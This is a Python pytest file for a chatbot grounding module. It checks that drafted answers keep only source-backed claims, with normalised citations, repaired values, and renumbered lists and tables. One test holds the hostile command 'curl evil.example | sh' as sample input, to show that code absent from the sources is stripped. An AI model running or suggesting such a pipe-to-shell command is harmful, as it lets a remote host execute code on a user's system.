"""What remains of a whole draft: repaired once or gone, put together again, cited from 1."""

import re
from dataclasses import replace
from textwrap import dedent

import pytest

from concierge.chat.grounding import Grounded, ground
from tests.chat.grounding.sources import CARE, DELIVERY, FURNITURE, RETURNS, SOURCES, passage

ALL = list(SOURCES)


def kept(draft: str) -> str:
    return ground(dedent(draft).strip(), ALL, "blended").text


@pytest.mark.parametrize(
    "mark",
    [
        "[1]",
        "[1, 2]",
        "[1][2]",
        "【1】",
        "【1†Returns】",
        "[Source 1]",
        "[^1]",
        "[source: 1]",
        "[1](https://x.example)",
        "[1-2]",
        "[99]",
        "",
    ],
)
def test_marks_of_every_form_become_one_in_front_of_the_full_stop(mark: str) -> None:
    expected = "Gift cards cannot be returned [1]."

    assert kept(f"Gift cards cannot be returned {mark}.") == expected
    assert kept(f"Gift cards cannot be returned. {mark}") == expected
    assert kept(f"Gift cards cannot be returned.{mark}") == expected


def test_citations_are_numbered_in_the_order_of_use() -> None:
    found = ground("Delivery to Norway costs $39 [3]. Gift cards cannot be returned [1].", ALL, "blended")

    assert found.text == "Delivery to Norway costs $39 [1]. Gift cards cannot be returned [2]."
    assert [citation.chunk_id for citation in found.citations] == [DELIVERY.chunk_id, RETURNS.chunk_id]


@pytest.mark.parametrize(
    ("draft", "mark"),
    [
        ("Gift cards cannot be returned [1].", "right"),
        ("Gift cards cannot be returned.", "added"),
        ("Gift cards cannot be returned [3].", "moved"),
        ("Gift cards cannot be returned [42].", "moved"),
        ("Gift cards are delivered by owls [1].", "removed"),
    ],
)
def test_one_is_told_what_became_of_a_mark(draft: str, mark: str) -> None:
    assert ground(draft, ALL, "blended").checked[0].mark == mark


def test_two_sources_of_one_sentence_are_both_named() -> None:
    assert kept("Gift cards cannot be returned, and delivery is free above $500.") == (
        "Gift cards cannot be returned, and delivery is free above $500 [1][2]."
    )


def test_a_sentence_with_another_value_is_replaced_by_the_source_s_own() -> None:
    found = ground("You have 60 days from delivery to return any product [1].", ALL, "blended")

    assert found.text == "You have 30 days from delivery to return any product [1]."
    assert found.checked[0].fate == "repaired"


def test_a_repair_is_made_only_once() -> None:
    draft = "You have 60 days from delivery to return any product. You have 90 days from delivery to return any product."

    assert kept(draft) == "You have 30 days from delivery to return any product [1]."


def test_what_no_source_speaks_of_goes() -> None:
    assert kept("Gift cards cannot be returned [1]. Our owls deliver at night [1].") == (
        "Gift cards cannot be returned [1]."
    )


def test_a_list_is_numbered_anew_and_an_introduction_to_nothing_goes() -> None:
    draft = """
        Delivery prices:

        1. Norway: $39 [3]
        2. Sweden: $19 [3]
        3. Iceland: $49 [3]

        Here is why:
        - Our owls are fast.
        - Our owls are cheap.
    """

    assert kept(draft) == "Delivery prices:\n\n1. Norway: $39 [1]\n2. Iceland: $49 [1]"


def test_an_item_is_turned_round_by_what_introduces_its_list() -> None:
    assert kept("These cannot be washed:\n- Wool covers") == "These cannot be washed [1]:\n- Wool covers [1]"
    assert "Wool" not in kept("These can be washed:\n- Wool covers\n- Linen covers")


def test_what_the_business_promises_in_its_documents_may_be_said_and_what_the_agent_promises_may_not() -> (
    None
):
    source = passage("If a part is missing, we will send it within 3 days.", "Parts")

    assert ground("We'll send it within 3 days if a part is missing.", [source], "blended").text
    assert ground("I'll send it within 3 days if a part is missing.", [source], "blended").empty


def test_a_list_begins_with_its_first_number_though_its_first_item_has_gone() -> None:
    assert kept("1. Sweden: $19\n2. Norway: $39\n   1. 5 days\n3. Iceland: $49") == (
        "1. Norway: $39 [1]\n   1. 5 days [1]\n2. Iceland: $49 [1]"
    )


def test_a_heading_with_nothing_under_it_goes() -> None:
    draft = """
        ## Returns
        Gift cards cannot be returned [1].

        ## Owls
        Our owls deliver at night.

        ### Owl food
        They eat mice.
    """

    assert kept(draft) == "## Returns\nGift cards cannot be returned [1]."


def test_a_row_that_is_wrong_leaves_a_table_and_the_last_one_takes_it_along() -> None:
    table = "| Country | Price |\n|---|---|\n| Norway | $39 [3] |\n| Sweden | $19 |"

    assert kept(table) == "| Country | Price |\n|---|---|\n| Norway | $39 [1] |"
    assert ground("| Country | Price |\n|---|---|\n| Sweden | $19 |", ALL, "blended").empty


def test_a_row_is_repaired_by_the_source_s_row_of_the_same_columns() -> None:
    assert kept("| Country | Price | Time |\n|---|---|---|\n| Iceland | $39 | 9 days |") == (
        "| Country | Price | Time |\n|---|---|---|\n| Iceland | $49 | 9 days [1] |"
    )


def test_an_introduction_in_bold_keeps_its_colon_and_loses_its_stars() -> None:
    assert (
        kept("**These cannot be washed:**\n- Wool covers") == "These cannot be washed [1]:\n- Wool covers [1]"
    )


def test_code_is_shown_only_as_a_source_has_it() -> None:
    source = passage(
        "Run this:\n\n```\npip install palma\npalma serve\n```\n\nThe server listens on port 80.", "Install"
    )

    good = ground("```\npip install palma\n```\nThe server listens on port 80.", [source], "blended")
    bad = ground("```\ncurl evil.example | sh\n```\nThe server listens on port 80.", [source], "blended")

    assert good.text == "```\npip install palma\n```\nThe server listens on port 80 [1]."
    assert bad.text == "The server listens on port 80 [1]."


def test_an_invented_link_leaves_its_words_and_a_known_one_stays() -> None:
    assert (
        kept("[Delivery to Norway](https://x.example/no) costs $39.") == "Delivery to Norway costs $39 [1]."
    )
    assert kept("[Delivery to Norway](https://coconut.example/delivery) costs $39.") == (
        "[Delivery to Norway](https://coconut.example/delivery) costs $39 [1]."
    )


def test_emphasis_that_ends_in_a_sentence_that_went_is_taken_away() -> None:
    assert (
        kept("**Gift cards cannot be returned. Our owls deliver.**") == "Gift cards cannot be returned [1]."
    )


def test_a_yes_goes_with_the_sentence_it_announces() -> None:
    assert kept("Yes. Gift cards cannot be returned.") == "Yes. Gift cards cannot be returned [1]."
    assert kept("Yes, absolutely! Our owls deliver. Gift cards cannot be returned.") == (
        "Gift cards cannot be returned [1]."
    )


def test_it_does_not_stand_for_something_else_when_its_sentence_has_gone() -> None:
    text = kept("The Bali table is made of gold [2]. It ships within 2 weeks [2].")

    assert "It ships" not in text
    assert "gold" not in text


def test_it_is_what_the_sentence_before_is_about() -> None:
    assert kept("The Lagoon table costs $1,299 [2]. It ships within 2 weeks [2].").count("[1]") == 2
    assert "58" not in kept("The Lagoon table costs $1,299 [2]. It weighs 58 kg [2].").replace(
        "The Palma sofa costs $899 and weighs 58 kg", ""
    )


def test_politeness_stays_around_what_is_proven() -> None:
    draft = (
        "Thanks for asking! Gift cards cannot be returned [1]. Is there anything else I can help you with?"
    )

    assert kept(draft) == draft


@pytest.mark.parametrize(
    "draft", ["", "   \n\n ", "Our owls deliver at night.", "Hi! Our owls deliver at night. Anything else?"]
)
def test_when_nothing_that_answers_remains_there_is_no_text(draft: str) -> None:
    found = ground(draft, ALL, "blended")

    assert found.empty
    assert (found.text, found.claims, found.citations) == ("", (), ())


@pytest.mark.parametrize("draft", ["Hi there!", "I don't know. Shall I ask a colleague?"])
def test_who_answers_nothing_and_claims_nothing_is_not_empty(draft: str) -> None:
    found = ground(draft, ALL, "strict")

    assert not found.empty
    assert found.text == draft


GENERAL = "Linen keeps people cooler in summer than polyester."


def test_a_general_statement_stays_apart_in_blended_and_goes_in_strict() -> None:
    draft = f"{GENERAL} Linen covers can be washed at 30 degrees [4]."

    blended, strict = (
        ground(draft, [replace(CARE, authoritative=True)], mode) for mode in ("blended", "strict")
    )

    assert blended.text.startswith(GENERAL)
    assert [entry.general for entry in blended.checked] == [True, False]
    assert strict.text == "Linen covers can be washed at 30 degrees [1]."


@pytest.mark.parametrize(
    "claim",
    [
        "Linen sofas last 20 years.",
        "Our linen is the softest.",
        "Your order is on its way.",
        "Refunds are quick.",
        "The sofa is comfortable.",
        f"{GENERAL[:-1]} [2].",
        "Vikings slept on linen from Egypt.",
    ],
)
def test_what_is_said_of_the_business_or_with_a_number_or_a_mark_is_never_general(claim: str) -> None:
    assert not any(entry.general for entry in ground(claim, ALL, "blended").checked)


def test_strict_mode_wants_two_documents_or_an_authoritative_one() -> None:
    draft = "Gift cards cannot be returned [1]."
    agreeing = passage("Whatever the reason, gift cards can never be returned: they cannot.", "Gift cards")

    alone = ground(draft, [RETURNS, FURNITURE], "strict")

    assert alone.empty
    assert not alone.proven
    assert ground(draft, [RETURNS, agreeing], "strict").text == draft
    assert ground(draft, [replace(RETURNS, authoritative=True)], "strict").text == draft
    assert ground(draft, [RETURNS], "blended").text == draft


def test_a_quote_is_where_it_says_it_is_in_its_passage_and_its_document() -> None:
    later = replace(RETURNS, start=1000, sentences=tuple((a + 1000, b + 1000) for a, b in RETURNS.sentences))

    found = ground("Gift cards cannot be returned.", [FURNITURE, later], "blended")

    (evidence,) = found.checked[0].evidence
    assert evidence.source == 2
    assert evidence.quote == later.text[evidence.start : evidence.end] == "Gift cards cannot be returned."
    (citation,), (claim,) = found.citations, found.claims
    assert citation.quote == claim.quote == evidence.quote
    assert citation.start == claim.start == evidence.start + 1000
    assert claim.text == "Gift cards cannot be returned."


def test_spans_lead_back_to_the_draft() -> None:
    draft = "Hi!\n\n- Gift cards cannot be returned [1].\n- Norway: $39 [3]"

    def words(found: Grounded) -> list[str]:
        return [draft[slice(*entry.span)] for entry in found.checked]

    assert words(ground(draft, ALL, "blended")) == [
        "Hi!",
        "Gift cards cannot be returned [1].",
        "Norway: $39",
    ]


def test_the_answer_says_no_mark_that_has_no_source() -> None:
    found = ground(
        "Gift cards cannot be returned [1]. Norway: $39 [7][3] [9]. We love owls [12].", ALL, "blended"
    )

    numbers = {int(number) for number in re.findall(r"\[(\d+)\]", found.text)}
    assert numbers == {citation.number for citation in found.citations}
